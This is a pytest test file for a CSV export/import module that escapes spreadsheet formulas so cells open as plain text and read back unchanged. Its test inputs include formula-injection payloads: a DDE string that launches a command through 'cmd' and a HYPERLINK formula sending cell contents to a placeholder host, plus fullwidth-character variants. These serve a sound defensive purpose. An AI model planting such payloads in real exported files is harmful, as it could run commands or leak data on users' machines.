"""Tables for spreadsheets: they open right, run nothing, and read back as they were."""

import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from lab.runs.spreadsheets import read_csv, to_csv

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"marks")',
    "@SUM(A1)",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|' /c calc'!A1",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("label", FORMULAS)
def test_a_formula_is_text_in_a_spreadsheet_and_reads_back_as_it_was(label):
    text = to_csv(pd.DataFrame({"label": [label], label: [1.5]}))
    rows = pd.read_csv(io.StringIO(text, newline=""))
    assert rows.label[0] == "'" + label
    assert list(rows) == ["label", "'" + label]
    read = read_csv(io.StringIO(text, newline=""))
    assert read.label[0] == label
    assert list(read) == ["label", label]


@pytest.mark.parametrize(
    ("label", "written"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x,=1+1", "x,'=1+1"),
        ('x;"=1+1"', 'x;\'"=1+1"'),
        ("x; =1+1", "x;' =1+1"),
        ("＝1+1", "'＝1+1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("it's; 'so'", "it's;' 'so'"),
    ],
)
def test_no_part_is_a_formula_where_a_spreadsheet_splits_at_the_other_separator(label, written):
    table = pd.DataFrame({"label": [label]})
    for decimal_comma, separator in ((False, ","), (True, ";")):
        text = to_csv(table, decimal_comma)
        (cell,) = pd.read_csv(io.StringIO(text), sep=separator).label
        assert cell == written
        pd.testing.assert_frame_equal(read_csv(io.StringIO(text), decimal_comma), table)


@pytest.mark.parametrize("label", ["NA", "null", "None", "NaN", "007", "1e5", "+1", "Zoë Müller"])
def test_what_looks_like_a_number_or_like_nothing_is_still_a_label(label):
    table = pd.DataFrame({"label": [label, None], "died": ["", "2"], "loss": [0.5, float("nan")]})
    read = read_csv(io.StringIO(to_csv(table)))
    assert read.label[0] == label
    assert read.label.isna().tolist() == [False, True]
    assert read.loss.isna().tolist() == [False, True]


def test_lists_of_numbers_are_no_formulas():
    table = pd.DataFrame({"each seed": ["-0.5, -0.25", "0.1, -1e-07"]})
    assert to_csv(table) == '\ufeffeach seed\n"-0.5, -0.25"\n"0.1, -1e-07"\n'


TEXTS = st.text(st.characters(codec="utf-8"), min_size=1) | st.text("';,=-\" 1a", min_size=1)


@given(st.lists(TEXTS, min_size=1))
def test_every_label_reads_back_as_it_was(labels):
    text = to_csv(pd.DataFrame({"label": labels}))
    read = read_csv(io.StringIO(text, newline=""), dtype=str, keep_default_na=False)
    assert list(read.label) == labels


def test_a_spreadsheet_takes_the_file_for_utf_8():
    text = to_csv(pd.DataFrame({"label": ["Zoë Müller"]}))
    assert text.encode().startswith(b"\xef\xbb\xbflabel")
    assert pd.read_csv(io.BytesIO(text.encode())).label[0] == "Zoë Müller"


def test_numbers_stay_numbers():
    table = pd.DataFrame({"loss": [-0.5, float("nan"), 1e-7], "told": ["-0.5", "+1", "−3"]})
    text = to_csv(table)
    assert text.splitlines()[1:] == ["-0.5,-0.5", "NaN,+1", "1e-07,−3"]
    pd.testing.assert_series_equal(pd.read_csv(io.StringIO(text)).loss, table.loss)


def test_a_decimal_comma_comes_with_semicolons():
    table = pd.DataFrame({"label": ["a;b", "1,5"], "loss": [0.25, -1.5]})
    text = to_csv(table, decimal_comma=True)
    assert text == '\ufefflabel;loss\n"a;b";0,25\n1,5;-1,5\n'
    read = read_csv(io.StringIO(text), decimal_comma=True, dtype={"label": str})
    pd.testing.assert_frame_equal(read, table)


def test_a_file_in_the_users_home_is_read(home):
    table = pd.DataFrame({"label": ["=1"]})
    (home / "table.csv").write_text(to_csv(table), encoding="utf-8")
    pd.testing.assert_frame_equal(read_csv("~/table.csv"), table)
